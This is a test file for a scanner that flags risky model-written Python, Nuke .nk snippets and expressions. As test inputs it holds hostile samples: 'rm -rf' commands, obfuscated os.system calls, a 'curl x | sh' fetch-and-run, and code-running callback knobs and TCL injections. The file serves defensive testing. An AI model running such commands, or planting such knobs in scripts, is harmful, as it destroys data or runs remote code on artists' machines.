"""The risk scans: model-written Python, .nk snippets about to be pasted, and expressions."""

from __future__ import annotations

import pytest
from nk_data import read

from nuke_ai_panel.graph.risk import (
    CODE_KNOB_TYPES,
    DANGER,
    WARNING,
    scan_code,
    scan_expression,
    scan_nk,
)


def flagged(code):
    return [(f.line, f.severity, f.call) for f in scan_code(code).findings]


@pytest.mark.parametrize(
    "code, call",
    [
        ("import os\nos.remove('/tmp/a')", "os.remove"),
        ("import os\nos.unlink(p)", "os.unlink"),
        ("import os\nos.rmdir(p)", "os.rmdir"),
        ("import shutil\nshutil.rmtree('/jobs')", "shutil.rmtree"),
        ("import shutil as sh\nsh.rmtree(p)", "shutil.rmtree"),
        ("from os import remove as rm\nrm(p)", "os.remove"),
        ("from shutil import rmtree\nrmtree(p)", "shutil.rmtree"),
        ("import os\nos.system('rm -rf /')", "os.system"),
        ("import os\nos.popen('ls')", "os.popen"),
        ("import os\nos.execv('/bin/sh', [])", "os.execv"),
        ("import subprocess\nsubprocess.Popen(['ls'])", "subprocess.Popen"),
        ("from subprocess import check_output\ncheck_output('x')", "subprocess.check_output"),
        ("import socket\nsocket.create_connection(('h', 1))", "socket.create_connection"),
        ("import urllib.request\nurllib.request.urlopen(u)", "urllib.request.urlopen"),
        ("import requests\nrequests.post(u, data=d)", "requests.post"),
        ("import http.client\nhttp.client.HTTPSConnection('h')", "http.client.HTTPSConnection"),
        ("import nuke\nnuke.scriptClose()", "nuke.scriptClose"),
        ("import nuke\nnuke.scriptClear()", "nuke.scriptClear"),
        ("import nuke\nnuke.scriptExit()", "nuke.scriptExit"),
        ("import nuke\nnuke.exit()", "nuke.exit"),
        ("import sys\nsys.exit(0)", "sys.exit"),
        ("import os\nos._exit(1)", "os._exit"),
        ("exec(code)", "exec"),
        ("eval('1+1')", "eval"),
        ("compile(src, 'f', 'exec')", "compile"),
    ],
)
def test_dangerous_calls(code, call):
    findings = scan_code(code).findings
    hits = [f for f in findings if f.call == call]
    assert hits and hits[0].severity == DANGER and hits[0].line == code.count("\n") + 1
    assert hits[0].reason


def test_pathlib_deletes_and_file_writes():
    code = (
        "from pathlib import Path\n"
        "Path('/tmp/x').unlink()\n"
        "p = Path('/tmp/d')\n"
        "p.rmdir()\n"
        "open('/tmp/out.txt', 'w').write('x')\n"
        "open('/tmp/log.txt', mode='a')\n"
        "open('/tmp/in.txt').read()\n"
        "open(path, mode)\n"
        "p.write_text('x')\n"
        "__import__('os')\n"
    )
    assert flagged(code) == [
        (2, DANGER, ".unlink()"),
        (4, DANGER, "p.rmdir"),
        (5, WARNING, "open(..., 'w')"),
        (6, WARNING, "open(..., 'a')"),
        (8, WARNING, "open(...)"),
        (9, WARNING, "p.write_text"),
        (10, WARNING, "__import__"),
    ]


def test_imports_of_network_and_process_modules_are_warnings():
    report = scan_code("import subprocess\nimport requests as r\nfrom socket import socket\n")
    assert [(f.line, f.severity) for f in report.findings] == [(1, WARNING), (2, WARNING), (3, WARNING)]
    assert "network" in report.findings[1].reason


def test_ordinary_nuke_code_is_clean():
    code = (
        "import nuke\n"
        "import os\n"
        "for n in nuke.selectedNodes('Read'):\n"
        "    path = n['file'].value()\n"
        "    if not os.path.exists(os.path.dirname(path)):\n"
        "        print('missing', path)\n"
        "g = nuke.createNode('Grade')\n"
        "g['white'].setValue(1.2)\n"
        "nuke.delete(nuke.toNode('Blur1'))\n"
    )
    report = scan_code(code)
    assert report.clean and not report.has_danger and report.summary() == []


def test_render_and_save_are_warnings():
    assert flagged("import nuke\nnuke.execute('Write1', 1, 10)\nnuke.scriptSave()\n") == [
        (2, WARNING, "nuke.execute"),
        (3, WARNING, "nuke.scriptSave"),
    ]


def test_syntax_error_is_reported_as_such():
    report = scan_code("def f(:\n    pass\n")
    assert report.findings == [] and report.has_danger
    assert report.syntax_error.startswith("line 1:")
    assert report.summary()[0].startswith("syntax error: line 1:")


def test_findings_are_sorted_and_describe_themselves():
    report = scan_code("import os, shutil\nshutil.rmtree(a); os.remove(b)\n")
    assert [f.call for f in report.findings] == ["shutil.rmtree", "os.remove"]
    assert report.findings[0].describe() == "line 2: shutil.rmtree - deletes files or folders"


# -- gaps found in review: every one must now be flagged ------------------------------------


@pytest.mark.parametrize(
    "code, line, severity, call",
    [
        ('__import__("os").system("rm -rf ~")', 1, DANGER, "os.system"),
        ('import importlib\nimportlib.import_module("os").system("x")', 2, DANGER, "os.system"),
        ('import importlib as il\nil.import_module("shutil").rmtree(p)', 2, DANGER, "shutil.rmtree"),
        ('__import__("os.path").remove(p)', 1, DANGER, "os.remove"),
        ("from os import *\nsystem('ls')", 1, DANGER, "from os import *"),
        ("from os import *\nsystem('ls')", 2, DANGER, "os.system"),
        ("from shutil import *\nrmtree(p)", 2, DANGER, "shutil.rmtree"),
        ("from subprocess import *\nPopen(['ls'])", 2, DANGER, "subprocess.Popen"),
        ("from socket import *", 1, DANGER, "from socket import *"),
        ("import os\nf = os.system", 2, DANGER, "os.system"),
        ("import os\nf = os.system\nf('ls')", 3, DANGER, "os.system"),
        ("import shutil\nhandlers = [shutil.rmtree]", 2, DANGER, "shutil.rmtree"),
        ("import builtins\nbuiltins.exec(src)", 2, DANGER, "exec"),
        ("import builtins as b\nb.eval(src)", 2, DANGER, "eval"),
        ("__builtins__['exec'](src)", 1, DANGER, "exec"),
        ("run = exec\nrun(src)", 2, DANGER, "exec"),
        ("import asyncio\nasyncio.create_subprocess_shell('ls')", 2, DANGER,
         "asyncio.create_subprocess_shell"),
        ("import asyncio\nasyncio.create_subprocess_exec('ls')", 2, DANGER,
         "asyncio.create_subprocess_exec"),
        ('import os\ngetattr(os, "sys" + "tem")("ls")', 2, DANGER, "getattr(os, 'sys' + 'tem')"),
        ('import os\ngetattr(os, "system")("ls")', 2, DANGER, "os.system"),
        ("import sys\nsys.modules['os'].unlink(p)", 2, DANGER, "os.unlink"),
        ("import os\nos.truncate('/tmp/a.exr', 0)", 2, DANGER, "os.truncate"),
        ("import nuke\nnuke.addOnCreate(f)", 2, WARNING, "nuke.addOnCreate"),
        ("import nuke\nnuke.addKnobChanged(f, nodeClass='Blur')", 2, WARNING, "nuke.addKnobChanged"),
        ("import nuke\nnuke.addOnScriptSave(f)", 2, WARNING, "nuke.addOnScriptSave"),
        ("import nuke\nnuke.addBeforeRender(f)", 2, WARNING, "nuke.addBeforeRender"),
        ("import nuke\nnuke.callbacks.addAutolabel(f)", 2, WARNING, "nuke.callbacks.addAutolabel"),
        ("from nuke import addUpdateUI\naddUpdateUI(f)", 2, WARNING, "nuke.addUpdateUI"),
        ("import nukescripts\nnukescripts.PythonPanel('x').showModalDialog()", 2, DANGER,
         "nukescripts.PythonPanel('x').showModalDialog"),
        ("import nuke\nnuke.Panel('x').show()", 2, DANGER, "nuke.Panel().show"),
        ("import nuke\np = nuke.Panel('x')\np.addSingleLineInput('a', '')\np.show()", 4, DANGER,
         "nuke.Panel().show"),
    ],
)
def test_review_gaps_are_flagged(code, line, severity, call):
    hits = [f for f in scan_code(code).findings if f.call == call and f.line == line]
    assert hits, scan_code(code).summary()
    assert hits[0].severity == severity and hits[0].reason


@pytest.mark.parametrize(
    "code, call",
    [
        ("importlib.import_module(name).system('x')", "importlib.import_module(name).system"),
        ("m = __import__(name)\nm.remove(p)", "m.remove"),
        ("m = __import__(name)\nm.popen('x')", "m.popen"),
        ("(lambda: mod)().rmtree(p)", ".rmtree()"),
        ("tools[0].execv('/bin/sh', [])", "tools[0].execv"),
        ("get()['x'].spawnlp(0, 'sh')", "get()['x'].spawnlp"),
        ("handle().truncate(0)", "handle().truncate"),
        ("proc.kill()", "proc.kill"),
    ],
)
def test_unresolved_receivers_are_judged_by_the_method_name(code, call):
    hits = [f for f in scan_code(code).findings if f.call == call]
    assert hits and hits[0].severity == DANGER, scan_code(code).summary()


def test_computed_getattr_is_a_warning_and_on_a_dangerous_module_a_danger():
    assert flagged("getattr(node, knob_name)") == [(1, WARNING, "getattr(node, knob_name)")]
    assert flagged("import shutil\nf = getattr(shutil, name)") == [
        (2, DANGER, "getattr(shutil, name)")]
    assert flagged("getattr(node, 'name')()") == []


def test_indirect_imports_are_still_named():
    report = scan_code("m = __import__('subprocess')\nm.run(['ls'])\n")
    assert [(f.line, f.severity, f.call) for f in report.findings] == [
        (1, WARNING, "__import__"),
        (1, WARNING, "import subprocess"),
        (2, DANGER, "subprocess.run"),
    ]
    assert report.findings[0].reason == "imports subprocess indirectly"
    computed = scan_code("importlib.import_module(name)\n").findings
    assert computed[0].reason == "imports a module whose name is computed at run time"


def test_a_use_and_a_call_on_one_line_are_reported_once():
    assert flagged("import os; f = os.system; f('ls')") == [(1, DANGER, "os.system")]
    assert flagged("import subprocess\nsubprocess.run(c, stdout=subprocess.PIPE)") == [
        (1, WARNING, "import subprocess"), (2, DANGER, "subprocess.run")]


def test_code_put_into_callback_knobs_and_python_knobs_is_flagged():
    code = (
        "import nuke\n"
        "n = nuke.toNode('Blur1')\n"
        "n['knobChanged'].setValue('import os; os.system(\"x\")')\n"
        "n.knob('onCreate').setValue('print(1)')\n"
        "n.addKnob(nuke.PyScript_Knob('go', 'Go', 'print(2)'))\n"
        "n['label'].setValue('[python nuke.thisNode().name()]')\n"
        "nuke.knobDefault('Blur.size', '3')\n"
    )
    report = scan_code(code)
    assert [(f.line, f.severity) for f in report.findings] == [
        (3, WARNING), (4, WARNING), (5, WARNING), (6, WARNING), (7, WARNING)]
    assert "knobChanged knob" in report.findings[0].reason
    assert "os.system" in report.findings[0].reason
    assert "runs Python" in report.findings[3].reason


def test_ordinary_nuke_code_stays_clean():
    code = (
        "import nuke\n"
        "import os\n"
        "import platform\n"
        "for n in nuke.allNodes():\n"
        "    if n.Class() == 'Read':\n"
        "        path = n['file'].value()\n"
        "        if not os.path.exists(os.path.dirname(path)):\n"
        "            print('missing', path)\n"
        "for n in nuke.allNodes('Blur', recurseGroups=True):\n"
        "    n.knob('size').setValue(n.knob('size').value() * 2)\n"
        "g = nuke.createNode('Grade', inpanel=False)\n"
        "g['white'].setValue(1.2)\n"
        "g['label'].setValue('[value white] [file tail [value file]]')\n"
        "g.setInput(0, nuke.toNode('Read1'))\n"
        "b = nuke.nodes.Blur(size=3)\n"
        "b.setXYpos(g.xpos(), g.ypos() + 60)\n"
        "sel = nuke.selectedNodes()\n"
        "sel.remove(g)\n"
        "names = [n.name() for n in sel]\n"
        "names.remove('Blur1')\n"
        "nuke.delete(nuke.toNode('Blur1'))\n"
        "nuke.addFormat('2048 1152 2K_wide')\n"
        "c = nuke.createNode('CurveTool')\n"
        "c['go'].execute()\n"
        "first = int(nuke.root()['first_frame'].value())\n"
        "with nuke.root():\n"
        "    w = nuke.nodes.Write(file=os.path.join(os.getenv('SHOT', '/tmp'), 'out.####.exr'))\n"
        "if platform.system() == 'Linux':\n"
        "    print(nuke.NUKE_VERSION_STRING)\n"
        "g['mix'].setExpression('frame / 100')\n"
        "for k in g.knobs():\n"
        "    print(k, g[k].value())\n"
        "nuke.message('done')\n"
        "undo = nuke.Undo()\n"
        "undo.begin('x')\n"
        "undo.end()\n"
    )
    report = scan_code(code)
    assert report.clean, report.summary()


# -- .nk snippets ----------------------------------------------------------------------------

def nk_flags(text):
    return [(f.line, f.severity, f.node, f.knob) for f in scan_nk(text).findings]


EVIL = """set cut_paste_input [stack 0]
push $cut_paste_input
Grade {
 white 1.2
 label "\\[python {__import__('os').system('id')}]"
 onCreate "import os\\nos.system('curl x | sh')"
 knobChanged ""
 name Grade_evil
}
"""


def test_nk_callbacks_and_labels_that_run_python_are_flagged():
    report = scan_nk(EVIL)
    assert nk_flags(EVIL) == [(5, DANGER, "Grade_evil", "label"),
                              (6, DANGER, "Grade_evil", "onCreate")]
    label, on_create = report.findings
    assert label.reason == "runs Python when Nuke evaluates the value"
    assert on_create.reason.startswith("runs Python as soon as the node is created")
    assert "os.system" in on_create.reason
    assert on_create.describe().startswith("line 6: Grade_evil.onCreate - runs Python")
    assert "os.system('curl x | sh')" in on_create.call


@pytest.mark.parametrize("knob", [
    "onCreate", "knobChanged", "autolabel", "beforeRender", "afterRender", "beforeFrameRender",
    "afterFrameRender", "onDestroy", "updateUI", "onScriptLoad",
])
def test_every_callback_knob_is_flagged_when_it_holds_code(knob):
    assert nk_flags(f'NoOp {{\n {knob} "print(1)"\n name N\n}}\n') == [(2, DANGER, "N", knob)]
    assert nk_flags(f'NoOp {{\n {knob} ""\n name N\n}}\n') == []
    assert nk_flags(f"NoOp {{\n {knob} {{}}\n name N\n}}\n") == []


@pytest.mark.parametrize("kind, words", [
    (22, "Python button"), (32, "TCL button"), (35, "Pulldown_Knob"), (52, "PyCustom_Knob"),
])
def test_user_knobs_that_hold_code_are_flagged(kind, words):
    text = (f'NoOp {{\n addUserKnob {{20 User}}\n addUserKnob {{{kind} go l Go T "print(1)"}}\n'
            " name N\n}\n")
    (finding,) = scan_nk(text).findings
    assert (finding.line, finding.severity, finding.node, finding.knob) == (3, DANGER, "N", "go")
    assert words in finding.reason
    assert set(CODE_KNOB_TYPES) >= {22, 32, 35, 52}
    plain = 'NoOp {\n addUserKnob {7 amount l Amount R 0 10}\n addUserKnob {26 "" +STARTLINE}\n}\n'
    assert nk_flags(plain) == []


@pytest.mark.parametrize("value, severity", [
    ("[python nuke.thisNode().name()]", DANGER),
    ("[python -exec {import os}]", DANGER),
    ("[exec rm -rf /]", DANGER),
    ("[open |sh]", DANGER),
    ("[source /tmp/x.tcl]", DANGER),
    ("[value size] [::python {1}]", DANGER),
    ("[if {1} {python {print(1)}}]", DANGER),
    ("[lindex [python {[1]}] 0]", DANGER),
    ("[file delete /jobs/show]", DANGER),
    ("[knob this.knobChanged {print(1)}]", DANGER),
    ("[eval $cmd]", WARNING),
    ("[$cmd {print(1)}]", WARNING),
    ("[py\\\\x74hon 1]", WARNING),
])
def test_tcl_that_runs_code_in_any_knob_value_is_flagged(value, severity):
    for knob in ("label", "file", "note_font"):
        text = 'Read {\n %s "%s"\n name R\n}\n' % (knob, value.replace('"', '\\"'))
        flags = scan_nk(text).findings
        assert flags and flags[0].severity == severity and flags[0].knob == knob, (value, flags)


@pytest.mark.parametrize("value", [
    "[value size]", "[file tail [value file]]", "[frame]", "[knob parent.size]",
    "[metadata input/filename]", "[string toupper [value name]]",
    "[expr {[value size] > 2 ? 1 : 0}]", "open the matte; source plate", "x {python}",
])
def test_ordinary_tcl_in_labels_stays_clean(value):
    assert nk_flags('Blur {\n size 3\n label "%s"\n name B\n}\n' % value) == []


def test_top_level_tcl_commands_in_a_snippet_are_flagged():
    text = (
        "set cut_paste_input [stack 0]\n"
        "push $cut_paste_input\n"
        "Blur {\n size 2\n name B\n}\n"
        "python {import os; os.system('x')}\n"
        "exec rm -rf ~\n"
        "set foo [python {1}]\n"
        "knob root.onScriptLoad {print(1)}\n"
        "version 15.1 v1\n"
    )
    flags = scan_nk(text).findings
    assert [(f.line, f.severity) for f in flags] == [(7, DANGER), (8, DANGER), (9, DANGER),
                                                      (10, DANGER)]
    assert "is the TCL command python, not a node" in flags[0].reason
    assert all(f.node == "" for f in flags[1:])
    assert flags[1].describe().startswith("line 8: top-level command - starts another program")


def test_findings_use_the_parsers_names():
    text = ("Blur {\n onCreate x\n}\nBlur {\n onCreate y\n}\n"
            "Group {\n name G\n}\nNoOp {\n autolabel z\n}\nend_group\n")
    assert [(f.node, f.knob) for f in scan_nk(text).findings] == [
        ("Blur1", "onCreate"), ("Blur2", "onCreate"), ("G.NoOp1", "autolabel")]


def test_unreadable_snippets_are_still_scanned():
    text = 'Grade {\n onCreate "import os"\n label "[python x]"\n'
    kinds = {(f.knob, f.severity) for f in scan_nk(text).findings}
    assert ("onCreate", DANGER) in kinds and ("", DANGER) in kinds


@pytest.mark.parametrize("name", ["greenscreen_comp.nk", "cryptomatte_example.nk",
                                  "gamutcompress_toolset.nk"])
def test_real_scripts_without_code_are_clean(name):
    assert scan_nk(read(name)).clean


def test_real_gizmos_with_code_are_flagged():
    crypto = scan_nk(read("encryptomatte.gizmo")).findings
    assert {(f.node, f.knob) for f in crypto} >= {
        ("Gizmo1", "forceUpdate"), ("Gizmo1.Merge_AB", "operation"),
        ("Gizmo1.ModifyMetaData2", "metadata"), ("Gizmo1.Switch2", "which")}
    hand = scan_nk(read("handwritten_edge_cases.nk")).findings
    assert [(f.line, f.knob) for f in hand] == [(119, "knobChanged"), (125, "reset")]


def test_expressions_that_run_code_are_flagged():
    assert scan_expression("sin(frame / 8) * 4 + 6").clean
    assert scan_expression("[value parent.size] * 2", "Blur1", "size").clean
    (finding,) = scan_expression("[python nuke.thisNode().name()] + frame", "Blur1", "size").findings
    assert (finding.severity, finding.node, finding.knob) == (DANGER, "Blur1", "size")
    assert finding.describe() == "line 1: Blur1.size - runs Python when Nuke evaluates it"
    assert scan_expression("[exec ls]").findings[0].reason.startswith("starts another program")
    assert not scan_expression("frame", "Blur1", "knobChanged").clean
